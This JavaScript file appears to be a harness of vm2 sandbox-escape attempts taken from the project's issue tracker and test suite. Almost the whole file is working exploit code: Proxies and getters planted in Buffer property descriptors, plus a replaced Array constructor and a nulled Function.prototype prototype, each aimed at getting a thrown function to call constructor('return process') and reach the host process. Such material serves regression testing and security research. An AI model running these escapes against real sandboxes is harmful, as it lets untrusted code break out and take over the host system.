// Source: vm2 issues #175, #177, #186 (https://github.com/patriksimek/vm2/issues/186), test/vm.js
// "contextifying a contextified value attack" #1-#7.
// Tried: getters and Proxies planted in property descriptors of host objects (Buffer.from("")), and
// replaced `Array`/`Function.prototype.__proto__`, so that vm2, while copying descriptors or
// converting arguments, ran attacker code that throws a function which then receives a host value.
const out = {};
const attempts = {
  getSetPollution: () => {
    Object.defineProperty(Buffer.from(''), 'x', {
      get set() {
        Object.defineProperty(Object.prototype, 'get', { get() { throw new Error(); } });
        return () => {};
      },
    });
  },
  prototypeGetThrower: () => {
    let proc;
    try {
      Object.defineProperty(Buffer.from(''), 'y', {
        writable: true,
        value: new Proxy({}, {
          getPrototypeOf(target) {
            delete this.getPrototypeOf;
            Object.defineProperty(Object.prototype, 'get', {
              get() {
                delete Object.prototype.get;
                Function.prototype.__proto__ = null;
                throw (f) => f.constructor('return process')();
              },
            });
            return Object.getPrototypeOf(target);
          },
        }),
      });
    } catch (e) {
      if (typeof e === 'function') proc = e(() => {});
      __wr.use(e, 'thrown from descriptor copy');
    }
    __wr.use(proc, 'e(() => {})');
  },
  throwBufferFrom: () => {
    Object.defineProperty(Buffer.from(''), '', {
      value: new Proxy({}, {
        getPrototypeOf(target) {
          if (this.t) throw Buffer.from;
          this.t = true;
          return Object.getPrototypeOf(target);
        },
      }),
    });
  },
  nullFunctionProto: () => {
    Function.prototype.__proto__ = null;
    let proc;
    try {
      Buffer.from(new Proxy({}, {
        getPrototypeOf() {
          if (this.t) throw (x) => x.constructor('return process')();
          this.t = true;
          return null;
        },
      }));
    } catch (e) {
      if (typeof e === 'function') proc = e(() => {});
      __wr.use(e, 'thrown from Buffer.from');
    }
    __wr.use(proc, 'e(() => {})');
  },
  replacedArray: () => {
    const map = { valueOf() {} };
    const arrayBackup = Array;
    let proc;
    Array = function () {
      Array = arrayBackup;
      throw (x) => x.constructor('return process')();
    };
    try {
      Buffer.from(map);
    } catch (e) {
      if (typeof e === 'function') proc = e((x) => x);
      __wr.use(e, 'thrown from Buffer.from(map)');
    }
    Array = arrayBackup;
    __wr.use(proc, 'e(x => x)');
  },
};
for (const [name, run] of Object.entries(attempts)) {
  try { run(); out[name] = 'ran'; } catch (e) { out[name] = String(e && e.message).slice(0, 100); }
}
return out;
